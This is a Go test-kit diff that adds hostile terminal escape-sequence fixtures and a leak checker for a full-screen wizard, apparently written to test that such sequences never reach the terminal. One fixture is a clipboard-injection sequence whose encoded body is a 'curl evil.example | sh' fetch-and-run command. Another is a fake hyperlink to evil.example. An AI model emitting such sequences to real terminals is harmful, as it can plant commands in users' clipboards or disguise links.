@@ -3,6 +3,7 @@ package testkit
 import (
 	"encoding/json"
 	"fmt"
+	"regexp"
 	"strings"
 	"unicode/utf8"
 )
@@ -17,8 +18,8 @@ type Hostile struct {
 	// that readers treat it as they would a real one.
 	Paste string
 	// Secrets are the parts of the paste that must never be shown, copied or
-	// written anywhere (empty for a control sequence, whose bytes are
-	// caught by Leaks).
+	// written anywhere: a secret, or the body of a control sequence (the
+	// sequence's own bytes are caught by Leaks).
 	Secrets []string
 }
 
@@ -44,19 +45,21 @@ const (
 // fake a link, retitle its window, hide or reorder text, or overwrite a
 // line. Each is wrapped in an ordinary error line.
 func ControlSequences() []Hostile {
-	wrap := func(name, payload string) Hostile {
-		return Hostile{Name: name, Paste: "Har inte behörighet för scope " + payload + " code 2000663 {\"message\":\"unauthorized\"}"}
+	wrap := func(name, payload string, hidden ...string) Hostile {
+		return Hostile{Name: name, Paste: "Har inte behörighet för scope " + payload + " code 2000663 {\"message\":\"unauthorized\"}", Secrets: hidden}
 	}
+	// The hidden parts are the bodies of the sequences: a terminal acts on
+	// them, so they must go with the sequence, never show as text.
 	return []Hostile{
-		wrap("csi", "\x1b[2J\x1b[31mred\x1b[0m"),
-		wrap("osc52-clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
-		wrap("osc8-hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"),
-		wrap("osc0-title", "\x1b]0;pwned\x07"),
-		wrap("dcs", "\x1bP1$qm\x1b\\"),
-		wrap("apc", "\x1b_Gf=100;AAAA\x1b\\"),
-		wrap("pm", "\x1b^privacy\x1b\\"),
-		wrap("sos", "\x1bXstring\x1b\\"),
-		wrap("c1-utf8", "\u009b31m\u009d0;title\u009c"),
+		wrap("csi", "\x1b[2J\x1b[31mred\x1b[0m\x1b[1;1H"),
+		wrap("osc52-clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="),
+		wrap("osc8-hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "evil.example"),
+		wrap("osc0-title", "\x1b]0;pwn3dTitle\x07", "pwn3dTitle"),
+		wrap("dcs", "\x1bP1$qXdcsBodyX\x1b\\", "XdcsBodyX"),
+		wrap("apc", "\x1b_GapcBodyX\x1b\\", "GapcBodyX"),
+		wrap("pm", "\x1b^pmBodyX\x1b\\", "pmBodyX"),
+		wrap("sos", "\x1bXsosBodyX\x1b\\", "sosBodyX"),
+		wrap("c1-utf8", "\u009b31m\u009d0;c1TitleX\u009c", "c1TitleX"),
 		wrap("c1-raw-bytes", "\x9b31m\x9d0;title\x07"),
 		wrap("bel", "ring\x07\x07"),
 		wrap("bare-cr", "visible\rhidden over it"),
@@ -182,4 +185,16 @@ func walkStrings(v any, f func(string)) {
 			walkStrings(x, f)
 		}
 	}
+}
+
+// styling matches the escape sequences a full-screen frame draws with:
+// SGR styling and the OSC 8 hyperlinks the wizard makes itself.
+var styling = regexp.MustCompile(`\x1b\[[0-9;:]*m|\x1b\]8;[^\x07\x1b]*(\x07|\x1b\\)`)
+
+// FrameLeaks is Leaks for a frame of the full-screen wizard, which styles
+// its own text: its styling sequences are allowed, any other escape is
+// not. The hidden parts of each hostile paste (the body of an OSC 8 link,
+// for one) are checked as secrets.
+func FrameLeaks(frame string, secrets []string) []string {
+	return Leaks(styling.ReplaceAllString(frame, ""), secrets)
 }
